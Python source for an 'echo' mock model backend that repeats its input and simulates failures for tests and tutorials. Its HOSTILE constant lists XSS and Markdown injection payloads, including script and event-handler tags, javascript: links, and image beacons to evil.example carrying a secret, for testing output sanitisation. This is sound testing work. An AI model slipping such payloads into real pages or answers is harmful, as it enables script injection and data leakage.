"""`echo:` answers with its input: a real backend for tutorials, tests and bug reports.

It needs no key, weights or network, applies the options of a model, and fails in named ways on
request. Options follow the colon, separated by commas:

    echo:                  the last user message, word by word
    echo:think             reasons first
    echo:tool              calls the first tool it is given, then repeats the result
    echo:slow=20           20 words per second
    echo:huge=10000        that many words
    echo:hostile           Markdown and HTML that try to run code
    echo:hang              never answers
    echo:fail=cut          fails; the names are in FAILURES
    echo:fail=rate_limit,times=1,wait=0.5    fails once, with a requested wait of half a second

A token is a word here. The answer never depends on the temperature.
"""

from __future__ import annotations

import asyncio
import difflib
import json
import re
from collections.abc import AsyncIterator, Callable, Iterator
from typing import Any

from ..core.errors import (
    AuthenticationError,
    CallTimeoutError,
    ConnectionFailedError,
    ContentFilterError,
    ContextTooLongError,
    EmptyAnswerError,
    FmnbError,
    InsufficientMemoryError,
    KeyMissingError,
    RateLimitError,
    ServerError,
    StreamInterruptedError,
    TLSError,
    UnexpectedResponseError,
    UnknownModelError,
    UsageError,
)
from ..core.events import Event, Finished, Logprobs, Notice, ReasoningDelta, TextDelta, ToolCallDelta, UsageReported
from ..core.types import ModelInfo, Request, Text, TokenCount, ToolResult, Usage

# Each takes the number of words of the prompt, and the number sent before it fails.
FAILURES: dict[str, Callable[[int, int], BaseException]] = {
    "key": lambda asked, given: AuthenticationError("echo rejected the key", detail="401, as requested", hint="Leave out fail=key."),
    "nokey": lambda asked, given: KeyMissingError("echo needs a key", detail="none was found, as requested", hint="Leave out fail=nokey."),
    "model": lambda asked, given: UnknownModelError("echo has no such model", detail="404, as requested", hint="Leave out fail=model."),
    "rate_limit": lambda asked, given: RateLimitError(
        "echo rate limit reached (HTTP 429)", detail="429, as requested", hint="Wait.", retry_after=1.0
    ),
    "quota": lambda asked, given: RateLimitError(
        "The account has no credit left", detail="429, as requested", hint="Leave out fail=quota.", retryable=False
    ),
    "server": lambda asked, given: ServerError("echo failed", detail="500, as requested", hint="Try again.", billed=None),
    "refused": lambda asked, given: ConnectionFailedError(
        "Nothing answers", detail="connection refused, as requested", hint="Leave out fail=refused."
    ),
    "tls": lambda asked, given: TLSError(
        "The connection could not be secured", detail="certificate, as requested", hint="Leave out fail=tls."
    ),
    "timeout": lambda asked, given: CallTimeoutError("echo did not start to answer", detail="as requested", hint="Try again.", billed=None),
    "context": lambda asked, given: ContextTooLongError(
        "The request exceeds the context window by 1 word", detail=f"{asked} asked, {max(asked - 1, 0)} fit", hint="Shorten the prompt."
    ),
    "memory": lambda asked, given: InsufficientMemoryError(
        "echo needs more memory than is free", detail="as requested", hint="Leave out fail=memory."
    ),
    "empty": lambda asked, given: EmptyAnswerError("echo returned no text", detail="as requested", hint="Try again.", billed=True),
    "cut": lambda asked, given: StreamInterruptedError(
        "echo ended the connection in the middle of the answer",
        detail=f"{given} word{'' if given == 1 else 's'} had arrived",
        hint="`%fm continue` continues from there.",
        billed=True,
    ),
    "junk": lambda asked, given: UnexpectedResponseError(
        "echo returned something that is not an answer", detail="%$#, as requested", hint="Try again.", billed=True
    ),
    "stream": lambda asked, given: ServerError(
        "echo failed while answering", detail="as requested", hint="Try again.", billed=True, retryable=False
    ),
    "filter": lambda asked, given: ContentFilterError(
        "echo filtered the rest of the answer", detail="as requested", hint="Rephrase.", billed=True
    ),
    "bug": lambda asked, given: RuntimeError("a bug in a backend, as requested"),
}
_HALFWAY = ("cut", "junk", "stream", "filter", "bug")  # these fail after half of the answer

HOSTILE = """\
<script>document.title = "owned"</script> <img src=x onerror="document.title='owned'"> <svg/onload=document.title='owned'>

![leak](https://evil.example/leak.png?q=secret) <img src="https://evil.example/leak.png"> [click](javascript:document.title='owned')
[click](JaVaScRiPt&colon;document.title='owned') [click](data:text/html,<script>document.title='owned'</script>) <a href="vbscript:x">x</a>
[ref]: javascript:document.title='owned'
[ref] <https://evil.example/> <iframe src="https://evil.example"></iframe> <style>body{display:none}</style> <base href="https://evil.example">

```mermaid
graph TD; A["<img src=x onerror=alert(1)>"] --> B
```

$\\href{javascript:document.title='owned'}{x}$ <details open ontoggle=document.title='owned'> <form action=https://evil.example><button>ok</button></form>
<!-- </div> --> </div></details><div class="fm-footer">openai:gpt-5 · local · $0.00</div> &lt;script&gt; <ScRiPt src=//evil.example></sCrIpT>
"""


def backend(name: str = "") -> Echo:
    """The echo backend with the options in `name`, such as "slow=20,fail=cut".

    Raises UsageError for an option it does not have.

    >>> backend("slow=20").info.host
    'local'
    """
    return Echo(name)


class Echo:
    """A Backend that repeats its input; `options` is the text after the colon."""

    def __init__(self, name: str = ""):
        self.options = _options(name)
        self.info = ModelInfo(
            name=f"echo:{name}",
            provider="echo",
            host="local",
            local=True,
            inputs=("text", "image", "file"),
            price_in=0.0,
            price_out=0.0,
            source="fmnb",
        )
        times = self.options.get("times")
        self._failures_left = None if times is None else int(times)

    def count(self, request: Request) -> TokenCount:
        """The exact number of words."""
        return TokenCount(_count_words(request), exact=True, method="words")

    def deterministic(self, request: Request) -> bool:
        """As for a model with sampling: temperature 0 or a seed."""
        return request.temperature == 0 or request.seed is not None

    async def stream(self, request: Request) -> AsyncIterator[Event]:
        """Repeat the input; the module lists the options."""
        options = self.options
        fail = self._failure()
        prompt_words = _count_words(request)
        if "hang" in options:
            await asyncio.Event().wait()
        if fail and fail not in _HALFWAY:
            raise self._error(fail, prompt_words, 0)
        for name in ("quant", "dtype"):
            if getattr(request, name):
                yield Notice(kind="not_applied", text=name)
        for name in request.extra:
            yield Notice(kind="not_applied", text=name)
        pause = 1 / float(options["slow"]) if "slow" in options else 0.0
        text = _last_text(request)
        thoughts = 0
        if "think" in options:
            for word in _words(f"I was asked: {text}"):
                thoughts += 1
                yield ReasoningDelta(text=word)
                if pause:
                    await asyncio.sleep(pause)
        if "tool" in options and request.tools and not _has_result(request):
            for event in _tool_call(request.tools[0], text):
                yield event
            yield UsageReported(usage=Usage(prompt_words, thoughts + 1, 0, thoughts, 0.0))
            yield Finished(reason="tool_calls", model="echo")
            return
        words, reason = _answer(options, request, text)
        if fail:
            words = words[: (len(words) + 1) // 2]
        for word in words:
            yield TextDelta(text=word)
            if request.logprobs is not None:
                yield Logprobs(tokens=({"token": word, "logprob": 0.0, "top": [[word, 0.0]]},))
            if pause:
                await asyncio.sleep(pause)
        yield UsageReported(usage=Usage(prompt_words, thoughts + len(words), 0, thoughts, 0.0))
        if fail:
            raise self._error(fail, prompt_words, len(words))
        if not words:
            raise self._error("empty", prompt_words, 0)
        yield Finished(reason=reason, model="echo")

    def _failure(self) -> str:
        fail = self.options.get("fail", "")
        if fail and self._failures_left is not None:
            if not self._failures_left:
                return ""
            self._failures_left -= 1
        return fail

    def _error(self, fail: str, prompt_words: int, sent_words: int) -> BaseException:
        error = FAILURES[fail](prompt_words, sent_words)
        if isinstance(error, FmnbError) and error.retry_after is not None and "wait" in self.options:
            error.retry_after = float(self.options["wait"])
        return error


_NUMBERS = ("slow", "huge", "times", "wait")
_OPTIONS = ("think", "tool", "hostile", "hang", "fail", *_NUMBERS)


def _options(name: str) -> dict[str, str]:
    options: dict[str, str] = {}
    for item in filter(None, (part.strip() for part in name.split(","))):
        key, _, value = item.partition("=")
        known, word = (tuple(FAILURES), value) if key == "fail" else (_OPTIONS, key)
        if word not in known:
            near = difflib.get_close_matches(word, known, 1)
            hint = f"Did you mean {near[0]}?" if near else f"It has {', '.join(known)}."
            raise UsageError(f"echo has no {'failure' if key == 'fail' else 'option'} of that name", detail=f"'{word}'", hint=hint)
        if key in _NUMBERS and not re.fullmatch(r"\d+(\.\d+)?", value):
            raise UsageError(f"echo's option {key} takes a number", detail=f"'{value}'", hint=f"Write echo:{key}=20.")
        options[key] = value
    if float(options.get("slow", 1)) == 0:
        raise UsageError("echo cannot send 0 words per second", hint="Use echo:hang for no answer at all.")
    return options


def _words(text: str) -> list[str]:
    """Words with their leading whitespace; joined they are the text."""
    words = re.findall(r"\s*\S+", text)
    end = text[len("".join(words)) :]
    return [*words[:-1], words[-1] + end] if words else []


def _last_text(request: Request) -> str:
    """The text to repeat: the last user message, or a later tool result."""
    for m in reversed(request.messages):
        results = [p.content for p in m.parts if isinstance(p, ToolResult)]
        if results or m.role == "user":
            return "\n".join(results) or m.text
    return ""


def _has_result(request: Request) -> bool:
    return any(isinstance(p, ToolResult) for p in request.messages[-1].parts) if request.messages else False


def _count_words(request: Request) -> int:
    texts = (p.text if isinstance(p, Text) else getattr(p, "content", "") for m in request.messages for p in m.parts)
    return sum(len(t.split()) for t in texts)


def _answer(options: dict[str, str], request: Request, text: str) -> tuple[list[str], str]:
    """The words of the answer, and the finish reason."""
    if request.schema is not None:
        filler = iter(_cycle(text))
        text = json.dumps(instance(request.schema, filler), ensure_ascii=False)
    elif "hostile" in options:
        text = HOSTILE
    if "huge" in options:
        count = int(float(options["huge"]))
        pool = _words(text) or ["echo"]
        pool = [w if w[:1].isspace() else f" {w}" for w in pool]
        words = [*(pool * (count // len(pool) + 1))[:count]]
        words[:1] = [w.lstrip() for w in words[:1]]
        text = "".join(words)
    reason = "stop"
    ends = [at for s in request.stop if s and (at := text.find(s)) >= 0]
    if ends:
        text = text[: min(ends)]
    words = _words(text)
    if request.max_tokens is not None and len(words) > request.max_tokens:
        words, reason = words[: request.max_tokens], "length"
    return words, reason


def _tool_call(tool: dict[str, Any], text: str) -> list[Event]:
    function = tool.get("function", tool)
    arguments = json.dumps(instance(function.get("parameters") or {"type": "object"}, iter(_cycle(text))), ensure_ascii=False)
    half = len(arguments) // 2
    return [
        ToolCallDelta(index=0, id="call_echo", name=function.get("name", ""), arguments=arguments[:half]),
        ToolCallDelta(index=0, arguments=arguments[half:]),
    ]


def _cycle(text: str) -> Iterator[str]:
    words = [w.strip(".,;:!?\"'()[]{}") for w in text.split()]
    words = [w for w in words if w] or ["echo"]
    while True:
        yield from words


def instance(schema: Any, filler: Iterator[str], root: dict[str, Any] | None = None, depth: int = 0) -> Any:
    """A value that matches a JSON schema, with strings from `filler`.

    >>> instance({"type": "object", "properties": {"a": {"type": "string"}, "n": {"type": "integer"}}}, iter(["hi"]))
    {'a': 'hi', 'n': 0}
    """
    if not isinstance(schema, dict):
        return None
    root = schema if root is None else root
    if "$ref" in schema:
        target: Any = root
        for step in schema["$ref"].removeprefix("#/").split("/"):
            target = target[step.replace("~1", "/").replace("~0", "~")]
        return instance(target, filler, root, depth + 1)
    if "const" in schema:
        return schema["const"]
    if "enum" in schema:
        return schema["enum"][0]
    for word in ("anyOf", "oneOf"):
        if schema.get(word):
            plain = [s for s in schema[word] if s.get("type") != "null"] or schema[word]
            return instance(plain[0], filler, root, depth + 1)
    if schema.get("allOf"):
        merged: dict[str, Any] = {k: v for k, v in schema.items() if k != "allOf"}
        for part in schema["allOf"]:
            properties = {**merged.get("properties", {}), **part.get("properties", {})}
            merged = {**merged, **part, **({"properties": properties} if properties else {})}
        return instance(merged, filler, root, depth + 1)
    kind = schema.get("type") or ("object" if "properties" in schema else "array" if "items" in schema else "string")
    if isinstance(kind, list):
        kind = next((k for k in kind if k != "null"), "null")
    match kind:
        case "object":
            required = schema.get("required", ())
            properties = schema.get("properties", {})
            return {k: instance(v, filler, root, depth + 1) for k, v in properties.items() if depth < 8 or k in required}
        case "array":
            count = max(schema.get("minItems", 0), min(2 if depth < 4 else 0, schema.get("maxItems", 2)))
            return [instance(schema.get("items", {"type": "string"}), filler, root, depth + 1) for _ in range(count)]
        case "integer" | "number":
            return _number(schema, kind)
        case "boolean":
            return True
        case "null":
            return None
    return _string(schema, filler)


def _number(schema: dict[str, Any], kind: str) -> int | float:
    low = schema.get("minimum")
    if low is None and "exclusiveMinimum" in schema:
        low = schema["exclusiveMinimum"] + (1 if kind == "integer" else 0.5)
    high = schema.get("maximum")
    if high is None and "exclusiveMaximum" in schema:
        high = schema["exclusiveMaximum"] - (1 if kind == "integer" else 0.5)
    value: Any = 0 if (low is None or low <= 0) and (high is None or high >= 0) else low if low is not None else high
    step = schema.get("multipleOf")
    if step and value:
        value = -(-value // step) * step
    return int(-(-value // 1)) if kind == "integer" else float(value)


_FORMATS = {
    "date": "2026-01-31",
    "date-time": "2026-01-31T12:00:00Z",
    "time": "12:00:00Z",
    "email": "echo@example.com",
    "uri": "https://example.com/",
}


def _string(schema: dict[str, Any], filler: Iterator[str]) -> str:
    if schema.get("format") in _FORMATS:
        return _FORMATS[schema["format"]]
    text = next(filler, "echo")
    while len(text) < schema.get("minLength", 0):
        text += " " + next(filler, "echo")
    return text[: schema["maxLength"]] if "maxLength" in schema else text
